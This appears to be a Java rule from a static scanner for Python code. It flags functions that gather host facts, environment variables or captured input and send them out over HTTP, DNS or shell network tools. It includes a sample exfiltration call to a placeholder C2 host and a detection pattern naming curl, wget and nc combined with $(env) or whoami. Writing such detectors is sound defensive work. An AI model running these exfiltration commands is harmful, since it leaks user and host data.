package dev.kingsnake.rules.network;

import dev.kingsnake.Confidence;
import dev.kingsnake.Severity;
import dev.kingsnake.spi.FindingSink;
import dev.kingsnake.spi.PythonFile;
import dev.kingsnake.spi.PythonFileRule;
import dev.kingsnake.spi.RuleContext;
import dev.kingsnake.spi.RuleInfo;
import dev.kingsnake.spi.Tags;
import dev.kingsnake.spi.facts.CallFacts;
import dev.kingsnake.spi.facts.Capability;
import dev.kingsnake.spi.facts.Destinations;

import java.util.Collections;
import java.util.EnumSet;
import java.util.HashSet;
import java.util.Set;
import java.util.regex.Pattern;

/**
 * Source and sink in one function: host facts, the environment or captured user data collected, and a
 * network call that carries data out (a POST/upload, a GET whose URL is built at run time, a DNS lookup
 * of a built name).
 */
public final class CollectedDataSendRule implements PythonFileRule {

    private static final RuleInfo INFO = new RuleInfo("KS-NET-SEND-HOST-DATA",
            "Sends collected host/user data out: a function gathers host facts, the environment or captured input "
                    + "and sends data over HTTP, sockets, mail, FTP or DNS",
            Severity.HIGH, Confidence.HIGH, Set.of(Tags.EXFILTRATION, Tags.NETWORK),
            "requests.post('https://c2.example.invalid', json={'user': getpass.getuser(), 'host': platform.node()})",
            "Telemetry and crash reporters send a host name with their reports; they usually build the report "
                    + "elsewhere than where they send it. Plain GETs to a constant URL are never reported. Shell "
                    + "commands are reported when a network tool's own command line holds a host-data substitution "
                    + "such as $(whoami) or $(env | base64).");

    private static final Set<Capability> SOURCES = EnumSet.of(Capability.FINGERPRINT, Capability.ENV_ALL,
            Capability.CLIPBOARD_READ, Capability.SCREENSHOT, Capability.KEYLOG);

    /**
     * curl/wget/nc/nslookup/dig/ping given the output of a host-data command ($(env), `whoami`, $(hostname),
     * $(cat ...)) on its own command line: the shell collects and sends in one go.
     */
    private static final Pattern SHELL_SEND = Pattern.compile("(?i)\\b(curl|wget|nc|ncat|nslookup|dig|ping|host)"
            + "\\b[^\\n;|&]*(\\$\\(|`)\\s*(env|printenv|whoami|hostname|id|uname|cat|ls|pwd|ifconfig|ip|set)\\b");

    @Override
    public RuleInfo info() {
        return INFO;
    }

    @Override
    public void check(PythonFile file, RuleContext ctx, FindingSink sink) {
        CallFacts facts = CallFacts.of(file);
        for (CallFacts.CallFact c : facts.calls()) {
            if (c.is(Capability.PROCESS)
                    && facts.textsWithin(c.call()).stream().anyMatch(t -> SHELL_SEND.matcher(t).find())) {
                sink.report(file, c.call(),
                        "a shell command collects host data with command substitution and sends it with a network tool",
                        Severity.HIGH, Confidence.HIGH);
            }
        }
        if (!facts.fileCaps().contains(Capability.NETWORK)) {
            return;
        }
        Set<Integer> scopesReported = new HashSet<>();
        for (CallFacts.CallFact c : facts.calls()) {
            if (!c.is(Capability.NETWORK) || scopesReported.contains(c.scope())) {
                continue;
            }
            Set<Capability> scope = facts.scope(c.scope());
            if (Collections.disjoint(scope, SOURCES)) {
                continue;
            }
            String how;
            if (c.is(Capability.SEND)) {
                how = "sends";
            } else if (c.is(Capability.DNS) && Destinations.lookedUpName(facts, c).isPresent()) {
                how = "encodes into a DNS lookup";
            } else if (c.is(Capability.FETCH) && Destinations.builtAtRunTime(facts, c.call(), c.scope())) {
                how = "puts into a request URL";
            } else {
                continue;
            }
            scopesReported.add(c.scope());
            sink.report(file, c.call(), "this function collects host/user data and " + how + " it", Severity.HIGH,
                    c.is(Capability.SEND) ? Confidence.HIGH : Confidence.MEDIUM);
        }
    }
}
